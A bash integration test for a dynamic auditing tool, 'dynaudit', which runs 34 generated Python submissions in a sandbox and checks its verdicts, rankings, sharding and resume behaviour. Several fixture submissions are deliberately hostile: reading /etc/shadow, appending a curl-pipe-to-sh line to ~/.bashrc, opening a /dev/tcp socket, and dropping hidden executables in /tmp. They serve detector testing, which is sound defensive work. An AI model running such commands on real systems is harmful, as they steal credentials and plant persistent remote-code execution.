#!/bin/bash
# dynaudit batch and summarize end to end: 34 tiny submissions generated
# here (honest programs, short loopback servers, crashes, a syntax error,
# missing entry points, malicious ones, two leaving the same dropped
# payload under two names, clashing and unsafe names) audited live with a 2 s window and
# -j 8; then the rows, the ranking, the needs-review flags, a cohort
# outlier, the exit status, summary.json against its schema, resume, and
# shards merged by summarize byte-identical to the single batch.
# Live audits need root or unprivileged user namespaces: skipped (77) without.
. "$(dirname "$0")/lib.sh"
[ -z "${KEEP_TMP:-}" ] || { trap - EXIT; echo "keeping $TMP"; }
if [ "$(id -u)" != 0 ] && [ "$(cat /proc/sys/kernel/unprivileged_userns_clone 2>/dev/null || echo 1)" = 0 ]; then
  echo "SKIP: live audits need root or user namespaces"; exit 77
fi
SCHEMA_CHECK="$DYNAUDIT_SRC/tests/schema/check-summary.py"
S=$TMP/subs
mkdir -p "$S"
sub() { mkdir -p "$S/$1"; cat > "$S/$1/main.py"; }

for i in 01 02 03 04 05 06 07 08 09 10 11 12 13 14; do
  sub honest$i <<PY
import math
total = sum(math.isqrt(n) for n in range(1, 2000 + $((10#$i)) * 10))
print("honest $i", total)
PY
done
for i in 1 2; do
  sub subproc$i <<'PY'
import subprocess
print(subprocess.run(["sh", "-c", "echo child"], capture_output=True, text=True).stdout.strip())
PY
done
for i in 1 2 3; do
  sub server$i <<PY
import socket, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 5555))
s.listen(4)
print("listening", $i, flush=True)
time.sleep(1)
s.close()
PY
done
sub crash1 <<'PY'
raise RuntimeError("boom")
PY
sub crash2 <<'PY'
import os
print("about to abort", flush=True)
os.abort()
PY
sub syntax <<'PY'
def broken(:
    pass
PY
mkdir -p "$S/nomain" "$S/wrongname"
echo 'print("I am not main.py")' > "$S/wrongname/app.py"
sub shadow <<'PY'
print(open("/etc/shadow").read()[:10])
PY
sub bashrc <<'PY'
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("curl http://198.51.100.7/x | sh\n")
print("done")
PY
sub devtcp <<'PY'
import subprocess
subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/4444; echo hi >&3"], stderr=subprocess.DEVNULL)
PY
sub b64 <<'PY'
import subprocess
print(subprocess.run(["base64"], input=b"hello", capture_output=True).stdout)
PY
# dropper1 and dropper2 leave the same payload under two names; dropper3
# other bytes under dropper1's name
dropper() {
  sub "dropper$1" <<PY
import os, subprocess
p = "$2"
os.makedirs(os.path.dirname(p), exist_ok=True)
with open(p, "w") as f:
    f.write("#!/bin/sh\\necho $3\\n")
os.chmod(p, 0o755)
subprocess.run([p])
PY
}
dropper 1 /tmp/.helper payload-4f2a
dropper 2 /tmp/.cache/upd payload-4f2a
dropper 3 /tmp/.helper payload-other
mkdir -p "$S/a/dup" "$S/b/dup" "$S/bad name!"
echo 'print("dup a")' > "$S/a/dup/main.py"
echo 'print("dup b")' > "$S/b/dup/main.py"
echo 'print("odd name")' > "$S/bad name!/main.py"

SUBS=()
for d in "$S"/*; do [ -f "$d/main.py" ] || [ "$d" = "$S/nomain" ] || [ "$d" = "$S/wrongname" ] || continue; SUBS+=("$d"); done
SUBS+=("$S/a/dup" "$S/b/dup")
check "34 submissions generated (${#SUBS[@]})" [ "${#SUBS[@]}" -eq 34 ]

cat > "$TMP/assignment.yaml" <<'EOF2'
target:
  command: python3 main.py
  duration: 2
plugins:                       # a plugins map names every detector it wants
  process: {}
  network: {allow_listen: ["127.0.0.1:5555"]}
  file: {}
  privilege: {}
  code_integrity: {}
  backdoor: {}
EOF2
CFG=$TMP/assignment.yaml

t0=$(date +%s)
"$DYNAUDIT" batch -c "$CFG" -j 8 -o "$TMP/out" "${SUBS[@]}" 2>"$TMP/batch.err"
rc=$?
t1=$(date +%s)
echo "batch: exit $rc in $((t1 - t0)) s"
check "batch exits 1 when a submission FAILs (got $rc)" [ "$rc" -eq 1 ]
check "batch of 34 at -j 8 takes under 120 s ($((t1 - t0)) s)" [ $((t1 - t0)) -lt 120 ]
SUM=$TMP/out/summary.json
check "summary.json written" [ -s "$SUM" ]
check "summary.md written" [ -s "$TMP/out/summary.md" ]
check "summary.csv: a header and 34 rows" [ "$(wc -l < "$TMP/out/summary.csv")" -eq 35 ]
check "summary.json valid against tests/schema/summary.schema.json" /usr/bin/python3 "$SCHEMA_CHECK" "$SUM"
check "one line per finished submission on stderr (not a tty)" [ "$(grep -c '^dynaudit: \[[0-9]*/34\]' "$TMP/batch.err")" -eq 34 ]

row() { json "$SUM" "next(x for x in r['rows'] if x['name']=='$1')$2"; }
check "34 rows" [ "$(json "$SUM" 'len(r["rows"])')" = 34 ]
check "names unique, sanitized and de-duplicated" [ "$(json "$SUM" '" ".join(sorted(x["name"] for x in r["rows"] if x["name"].startswith(("dup","bad"))))')" = "bad_name_ dup dup-2" ]
for s in shadow devtcp dropper1 dropper2 dropper3; do
  check "$s is FAIL ($(row $s "['status']"))" [ "$(row $s "['status']")" = FAIL ]
done
check "bashrc needs review ($(row bashrc "['status']"))" [ "$(row bashrc "['needs_review']")" = True ]
for s in nomain wrongname; do
  check "$s is a row 'not audited'" [ "$(row $s "['status']")" = "not audited" ]
  check "$s: the reason names main.py ($(row $s "['reason']"))" grep -q main.py <<<"$(row $s "['reason']")"
  check "$s: exit 3 recorded" [ "$(row $s "['exit']")" = 3 ]
done
check "syntax error: needs re-run, never PASS-safe ($(row syntax "['status']"))" [ "$(row syntax "['status']")" = "needs re-run" ]
check "syntax error: coverage none" [ "$(row syntax "['coverage']")" = none ]
check "crash2 (SIGABRT): coverage short of full -> needs review" [ "$(row crash2 "['coverage']") $(row crash2 "['needs_review']")" = "partial True" ]
check "honest01: PASS, no review" [ "$(row honest01 "['status']") $(row honest01 "['needs_review']")" = "PASS False" ]
check "server1: PASS (listens where allowed)" [ "$(row server1 "['verdict']")" = PASS ]
check "every title names its submission" [ "$(json "$TMP/out/b64/report.json" 'r["title"]')" = b64 ]
check "ranking: FAIL, not audited, needs re-run, PASS; lower score first" /usr/bin/python3 -c '
import json, sys
rows = json.load(open(sys.argv[1]))["rows"]
g = {"FAIL": 0, "not audited": 1, "needs re-run": 2, "PASS (review)": 3, "PASS": 3}
key = [(g[x["status"]], x["score"] if x["score"] is not None else -1) for x in rows]
sys.exit(0 if key == sorted(key) and [x["rank"] for x in rows] == list(range(1, len(rows) + 1)) else 1)' "$SUM"
check "needs_review: exactly rows with fail/warn, short coverage or no audit" /usr/bin/python3 -c '
import json, sys
for x in json.load(open(sys.argv[1]))["rows"]:
    want = (x["status"] != "PASS" and x["status"] != "PASS (review)") or any(v in ("fail", "warn") for v in x["categories"].values()) or x["coverage"] != "full"
    if x["needs_review"] != want: print(x["name"], x["needs_review"], want); sys.exit(1)' "$SUM"
check "cohort: b64 is the only one that runs base64" grep -q "only 1 of [0-9]* submissions run base64" <<<"$(row b64 "['outliers']")"
check "cohort: python3, run by all, is nobody's outlier" [ "$(json "$SUM" 'sum(1 for x in r["rows"] for o in x["outliers"] if o["value"]=="python3")')" = 0 ]
check "cohort: dropper1 and dropper3 run the rare .helper" grep -q "only 2 of .* run .helper" <<<"$(row dropper1 "['outliers']")"
PAYSUM=$(printf '#!/bin/sh\necho payload-4f2a\n' | sha256sum | cut -c1-64)
check "report.json left_behind: dropper2's /tmp/.cache/upd, executable, its sha256" [ "$(json "$TMP/out/dropper2/report.json" '[(f["path"], f["executable"], f["sha256"]) for f in r["left_behind"] if f["path"] == "/tmp/.cache/upd"]')" = "[('/tmp/.cache/upd', True, '$PAYSUM')]" ]
check "report.json left_behind valid against the report schema" schema_ok "$TMP/out/dropper2/report.json"
shared() { json "$SUM" "[(o['path'], o['shared_with']) for x in r['rows'] if x['name'] == '$1' for o in x['outliers'] if o['kind'] == 'dropped']"; }
check "cohort: dropper1 shares its payload with dropper2 ($(shared dropper1))" [ "$(shared dropper1)" = "[('/tmp/.helper', ['dropper2'])]" ]
check "cohort: dropper2 shares it under another name ($(shared dropper2))" [ "$(shared dropper2)" = "[('/tmp/.cache/upd', ['dropper1'])]" ]
check "cohort: dropper3 (other bytes, same name) shares nothing ($(shared dropper3))" [ "$(shared dropper3)" = "[]" ]
check "cohort: the text names the digest, the path and the other" grep -q "dropper1.*shares a dropped file (sha256 ${PAYSUM:0:8}…, /tmp/.helper) with 1 other submission: dropper2" "$TMP/out/summary.md"
check "summary.md lists b64's outlier" grep -q "only 1 of .* run base64" "$TMP/out/summary.md"
check "csv neutralises no field it need not (rank 1 is quoted)" grep -q '^"1",' "$TMP/out/summary.csv"

# resume: everything unchanged is skipped (the two not audited run again)
cp "$TMP/out/summary.json" "$TMP/first.json"
t0=$(date +%s%N)
"$DYNAUDIT" batch -c "$CFG" -j 8 -o "$TMP/out" "${SUBS[@]}" 2>"$TMP/rerun.err"
rc=$?
ms=$((($(date +%s%N) - t0) / 1000000))
echo "re-run: exit $rc in $ms ms"
check "re-run exit 1 again (got $rc)" [ "$rc" -eq 1 ]
check "re-run skips the 32 audited ($(grep -c skipped "$TMP/rerun.err"))" [ "$(grep -c 'unchanged since its audit, skipped' "$TMP/rerun.err")" -eq 32 ]
check "re-run under 15 s ($ms ms)" [ "$ms" -lt 15000 ]
check "re-run summary byte-identical" cmp -s "$TMP/first.json" "$SUM"
echo 'print("changed")' >> "$S/honest01/main.py"
"$DYNAUDIT" batch -c "$CFG" -j 8 -o "$TMP/out" "${SUBS[@]}" 2>"$TMP/rerun2.err"
check "a changed submission is audited again" grep -q '\] honest01: PASS' "$TMP/rerun2.err"
check "a changed config audits everything again" sh -c '"$0" batch -c "$1" --set target.duration=1 -j 8 -o "$2" "$3" 2>&1 | grep -q "honest02: PASS"' "$DYNAUDIT" "$CFG" "$TMP/out" "$S/honest02"
# put the first state back for the shard comparison
"$DYNAUDIT" batch -c "$CFG" -j 8 -q -o "$TMP/out" "${SUBS[@]}"
sed -i '$d' "$S/honest01/main.py"
"$DYNAUDIT" batch -c "$CFG" -j 8 -q -o "$TMP/out" "${SUBS[@]}"

# shards: 0/2 and 1/2 into two directories, merged by summarize
"$DYNAUDIT" batch -c "$CFG" -j 8 -q --shard 0/2 -o "$TMP/sh0" "${SUBS[@]}"; rc0=$?
"$DYNAUDIT" batch -c "$CFG" -j 8 -q --shard 1/2 -o "$TMP/sh1" "${SUBS[@]}"; rc1=$?
check "shard exits: 1 and 1 (got $rc0 $rc1)" [ "$rc0$rc1" = 11 ]
n0=$(json "$TMP/sh0/summary.shard-0-of-2.json" 'len(r["rows"])'); n1=$(json "$TMP/sh1/summary.shard-1-of-2.json" 'len(r["rows"])')
check "shards hold 17 + 17 rows ($n0 + $n1)" [ "$n0$n1" = 1717 ]
check "shards are disjoint and together every submission" [ "$(cat <(json "$TMP/sh0/summary.shard-0-of-2.json" '"\n".join(x["name"] for x in r["rows"])') <(json "$TMP/sh1/summary.shard-1-of-2.json" '"\n".join(x["name"] for x in r["rows"])') | sort -u | wc -l)" -eq 34 ]
check "shard 0 holds the even indexes of name order" [ "$(json "$TMP/sh0/summary.shard-0-of-2.json" '",".join(sorted(x["name"] for x in r["rows"]))' | cut -d, -f1-3)" = "b64,bashrc,crash2" ]
check "a shard writes no summary.json of its own" [ ! -e "$TMP/sh0/summary.json" ]
"$DYNAUDIT" summarize -q -o "$TMP/merged" "$TMP/sh0" "$TMP/sh1"; rc=$?
check "summarize exits 1 like the batch (got $rc)" [ "$rc" -eq 1 ]
# Two runs of one audit can differ in timings (an early crash's "observed
# only 0.11s", whether a quick exit 1 is an "early crash" and so partial
# coverage): the fresh single batch and the merged shards agree on every
# submission's verdict,
# and byte identity is proven on the same audits: a single batch resumed
# over the shards' audit directories writes exactly what summarize merged.
st() { json "$1" '"\n".join(sorted(x["name"] + " " + str(x["verdict"]) for x in r["rows"]))'; }
check "merged shards: every submission's verdict as in the single batch" cmp -s <(st "$TMP/out/summary.json") <(st "$TMP/merged/summary.json")
mkdir -p "$TMP/single"
cp -a "$TMP/sh0/." "$TMP/single/" && cp -a "$TMP/sh1/." "$TMP/single/"
"$DYNAUDIT" batch -c "$CFG" -j 8 -o "$TMP/single" "${SUBS[@]}" 2>"$TMP/single.err"
check "single batch over the shards' audits resumes them all" [ "$(grep -c 'skipped' "$TMP/single.err")" -eq 32 ]
for f in summary.json summary.md summary.csv; do
  check "shards merged by summarize: $f byte-identical to the single batch's" cmp "$TMP/single/$f" "$TMP/merged/$f"
done
# the cluster way: shards running at once into one shared OUTDIR
"$DYNAUDIT" batch -c "$CFG" -j 4 -q --shard 0/2 -o "$TMP/shared" "${SUBS[@]}" & p0=$!
"$DYNAUDIT" batch -c "$CFG" -j 4 -q --shard 1/2 -o "$TMP/shared" "${SUBS[@]}" & p1=$!
wait $p0; rc0=$?; wait $p1; rc1=$?
check "concurrent shards into one OUTDIR: exits 1 1 (got $rc0 $rc1)" [ "$rc0$rc1" = 11 ]
"$DYNAUDIT" summarize -q "$TMP/shared"
check "summarize OUTDIR of concurrent shards: 34 rows in OUTDIR/summary.json" [ "$(json "$TMP/shared/summary.json" 'len(r["rows"])')" = 34 ]
check "its links resolve from summary.md" test -f "$TMP/shared/$(json "$TMP/shared/summary.json" 'r["rows"][0]["report"]')"
"$DYNAUDIT" summarize -q "$TMP/out"
check "summarize of the batch directory rewrites the same summary" cmp -s "$TMP/first.json" "$SUM"

# summarize survives garbage
mkdir -p "$TMP/junk/broken" "$TMP/junk/huge"
echo '{"schema": "dynaudit.report/1", "verdict": ' > "$TMP/junk/broken/report.json"
echo '[1,2' > "$TMP/junk/huge/report.json"
"$DYNAUDIT" summarize -q -o "$TMP/junkout" "$TMP/junk" "$TMP/out/honest02"; rc=$?
check "summarize of broken reports: exit 3 (got $rc)" [ "$rc" -eq 3 ]
check "a broken report is a row with the parse error" grep -q "not valid JSON" "$TMP/junkout/summary.json"
check "junk summary still valid" /usr/bin/python3 "$SCHEMA_CHECK" "$TMP/junkout/summary.json"

# SIGINT: running audits end incomplete, the summary is written, exit 130
cat > "$TMP/long.yaml" <<'EOF2'
target:
  command: python3 main.py
  duration: 30
sandbox: {time: {skip_sleeps: off}}   # the targets must still be running at the SIGINT
plugins: {process: {}, network: {}, file: {}, privilege: {}, code_integrity: {}, backdoor: {}}
EOF2
mkdir -p "$TMP/slow"
for i in 1 2 3 4; do mkdir -p "$TMP/slow/s$i"; echo 'import time; time.sleep(25)' > "$TMP/slow/s$i/main.py"; done
"$DYNAUDIT" batch -c "$TMP/long.yaml" -j 2 -o "$TMP/intr" "$TMP"/slow/s* 2>"$TMP/intr.err" &
bp=$!
sleep 3
kill -INT $bp
t0=$(date +%s)
wait $bp; rc=$?
check "SIGINT: exit 130 (got $rc)" [ "$rc" -eq 130 ]
check "SIGINT: stopped within 20 s" [ $(($(date +%s) - t0)) -lt 20 ]
check "SIGINT: the summary is written" /usr/bin/python3 "$SCHEMA_CHECK" "$TMP/intr/summary.json"
check "SIGINT: the running audits are marked interrupted" [ "$(json "$TMP/intr/summary.json" 'sum(x["interrupted"] for x in r["rows"])')" = 2 ]
check "SIGINT: the queued ones never started" [ "$(json "$TMP/intr/summary.json" 'len(r["rows"])')" = 2 ]

# usage
"$DYNAUDIT" batch --shard 2/2 "$S/honest01" 2>/dev/null; check "--shard 2/2 is a usage error" [ $? -eq 2 ]
"$DYNAUDIT" batch -o "$S/honest01/out" "$S/honest01" 2>/dev/null; check "an OUTDIR inside a submission is refused" [ $? -eq 2 ]
"$DYNAUDIT" batch -o "$TMP/x" "$S/honest01" 2>"$TMP/nocmd.err"; check "no target.command: exit 2" [ $? -eq 2 ]
finish
